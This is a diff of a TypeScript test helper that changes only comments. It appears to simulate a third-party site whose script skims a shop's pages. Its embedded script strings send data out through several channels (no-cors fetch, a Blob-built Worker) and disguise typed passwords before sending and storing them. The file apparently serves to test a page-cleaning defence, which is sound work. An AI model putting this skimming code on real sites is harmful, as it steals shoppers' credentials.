@@ -2,14 +2,14 @@ import { createServer, type IncomingMessage } from 'node:http';
 import { text } from 'node:stream/consumers';
 import { cleanPage, type SiteHandler } from '../serve.ts';
 
-/** Another site, whose script the pages of a shop carry. It writes down whatever reaches it. */
+/** Another site whose script runs in the pages of a shop. It records every request. */
 export interface Thief extends AsyncDisposable {
   url: string;
-  /** Method, address and body of every request; sockets too. */
+  /** Method, URL and body of every request, and sockets. */
   taken: string[];
 }
 
-/** The ways out of a page that a script has. Each is given an address of the thief's and something to send. */
+/** Ways of a script to send data out of a page. Each gets a URL of the other site and the data. */
 const ways = `
 const ways = {
   fetch: (to) => fetch(to, { mode: 'no-cors' }),
@@ -44,7 +44,7 @@ let old;
 try { old = new Worker(URL.createObjectURL(new Blob([act + 'onmessage = ({ data }) => send(data)']))); } catch { fetch('/tried?noWorker'); }
 `;
 
-/** Whatever is typed is sent by every way, so disguised that nobody knows it again; and remembered for the next page. */
+/** Sends typed passwords in disguise by every way, and stores them for the next page. */
 const theft = `
 const disguised = (value) => [...value].map((letter) => (letter.codePointAt(0) + 1).toString(36)).join('-');
 function steal(value, when) {
